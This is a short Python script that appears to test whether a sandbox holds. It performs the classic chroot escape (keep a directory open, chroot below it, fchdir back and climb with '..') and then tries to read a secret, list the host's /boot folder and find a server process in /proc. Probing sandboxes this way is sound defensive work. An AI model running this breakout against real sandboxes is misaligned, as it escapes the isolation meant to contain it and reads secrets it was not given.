"""The classic way out of a changed root: keep a folder open, change the root below it, walk up."""
secret = sys.argv[1]
for turn in range(3):
    os.makedirs(f"/tmp/jail/{turn}", exist_ok=True)
    outside = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    child = os.fork()
    if child == 0:
        os.chroot(f"/tmp/jail/{turn}")
        control(f"the root can be changed ({turn})", not os.path.exists("/tmp"))
        os.fchdir(outside)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        control("and left again, as far as the box's own", os.path.exists("/workspace"))
        attempt("read the secret from the top", read_of(secret))
        attempt("list the host's boot folder", lambda: os.listdir("/boot"), ([],))
        attempt("find the server's process", lambda: [p for p in os.listdir("/proc") if p.isdigit() and
                b"box-server\0serve" in content(f"/proc/{p}/cmdline")], ([],))
        os._exit(0)
    os.waitpid(child, 0)
    os.close(outside)
said("end")
